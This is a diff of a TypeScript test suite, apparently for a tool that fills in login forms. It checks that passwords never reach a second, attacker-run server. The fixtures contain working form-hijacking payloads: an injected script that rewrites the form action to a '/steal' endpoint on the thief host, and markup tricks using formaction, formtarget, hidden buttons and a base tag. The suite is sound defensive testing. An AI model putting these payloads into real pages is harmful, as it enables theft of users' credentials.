@@ -26,18 +26,23 @@ describe('what was typed goes nowhere but to the site', () => {
 
   it('a form that moves between reading and filling is not filled in', async () => {
     const other = await thief();
-    const move = `<script>
-      document.querySelector('input').addEventListener('focus', () => { document.title = 'focused'; });
-      const read = Element.prototype.getBoundingClientRect;
-      new PerformanceObserver(() => {}).observe({ entryTypes: ['mark'] });
-      setInterval(() => { if (performance.now() > 2500) document.getElementById('f').action = '${other.url}/steal'; }, 20);
-    </script>`;
+    let isRead = false;
+    const move = `<script>setInterval(async () => {
+      const { status } = await fetch('/now');
+      if (status !== 200 || f.action !== location.origin + '/session') return;
+      f.action = '${other.url}/steal';
+      fetch('/moved');
+    }, 50)</script>`;
     const site = closing(
-      await startSite(({ method }) => (method === 'POST' ? page('in') : page(FORM('/session', move)))),
+      await startSite(({ method, path }) => {
+        if (path === '/now') return { status: isRead ? 200 : 204 };
+        return method === 'POST' ? page('in') : page(FORM('/session', move));
+      }),
     );
     const connection = await connect(site);
     await connection.login();
-    await new Promise((resolve) => setTimeout(resolve, 2_600));
+    isRead = true;
+    await expect.poll(() => site.requests.map(({ path }) => path)).toContain('/moved');
     expect(ended(await connection.fill(VALUES))).toMatch(/^FAILED (domain_not_allowed|navigation_confused)/);
     expect(other.requests).toEqual([]);
     expect(site.requests.every(({ method }) => method === 'GET')).toBe(true);
@@ -78,6 +83,70 @@ describe('what was typed goes nowhere but to the site', () => {
       expect(ended(await connection.fill(VALUES)), target).not.toContain('SUCCESS');
     }
     expect(other.requests).toEqual([]);
+  });
+});
+
+describe('markup alone cannot send what is typed to where it was not read that it goes', () => {
+  const WITH = (button: string, form = '', more = '') =>
+    `<h1>Sign in</h1><form id="f" method="post" action="/session" ${form}><label>Username <input name="user"></label>
+     <label>Password <input type="password" name="pass"></label><button ${button}>Sign in</button></form>${more}`;
+  const CASES: readonly (readonly [string, (url: string) => string])[] = [
+    ['formaction', (url) => WITH(`formaction="${url}"`)],
+    [
+      'formaction into a frame',
+      (url) => WITH(`formaction="${url}" formtarget="fr"`, '', '<iframe name="fr"></iframe>'),
+    ],
+    [
+      'formaction as an address, into a frame',
+      (url) => WITH(`formaction="${url}" formmethod="get" formtarget="fr"`, '', '<iframe name="fr"></iframe>'),
+    ],
+    [
+      'formaction into a frame of the other site',
+      (url) => WITH(`formaction="${url}" formtarget="fr"`, '', `<iframe name="fr" src="${url}"></iframe>`),
+    ],
+    [
+      'a button of its own inside the button',
+      (url) =>
+        WITH('type="button"').replace(
+          'Sign in</button>',
+          `<input type="submit" formaction="${url}" value="Sign in"></button>`,
+        ),
+    ],
+    [
+      'a button elsewhere that owns the form',
+      (url) => WITH('hidden', '', `<button form="f" formaction="${url}">Sign in</button>`),
+    ],
+    ['the button that Enter presses', (url) => WITH(`formaction="${url}" style="position:absolute;opacity:0"`)],
+    ['a base', (url) => `<base href="${url}">${WITH('formaction=" "')}`],
+    ['a method of its own', () => WITH('formmethod="get"')],
+  ];
+  it.each(CASES)('by %s', async (_, form) => {
+    const other = await thief();
+    const site = closing(
+      await startSite(({ method }) => (method === 'POST' ? page('in') : page(form(`${other.url}/steal`)))),
+    );
+    // Pages of the other may be opened too: what counts is where it was read that the form goes.
+    const connection = await connect(site, { allow: [site.host, other.host] });
+    await connection.login();
+    await connection.fill(VALUES);
+    const told = JSON.stringify([...other.requests, ...site.requests].map(({ query, body }) => [...query, ...body]));
+    expect(told).not.toContain(VALUES.password);
+  });
+
+  it('where the site itself sends it, it still goes', async () => {
+    const site = closing(
+      await startSite(({ method, path }) =>
+        method === 'POST'
+          ? { location: `/home?${path}` }
+          : page(WITH('formaction="/other" formmethod="post"', '', '<iframe name="fr"></iframe>')),
+      ),
+    );
+    const connection = await connect(site);
+    await connection.login();
+    await connection.fill(VALUES);
+    expect(
+      site.requests.filter(({ method }) => method === 'POST').map(({ path, body }) => [path, body.get('pass')]),
+    ).toEqual([['/other', VALUES.password]]);
   });
 });
 
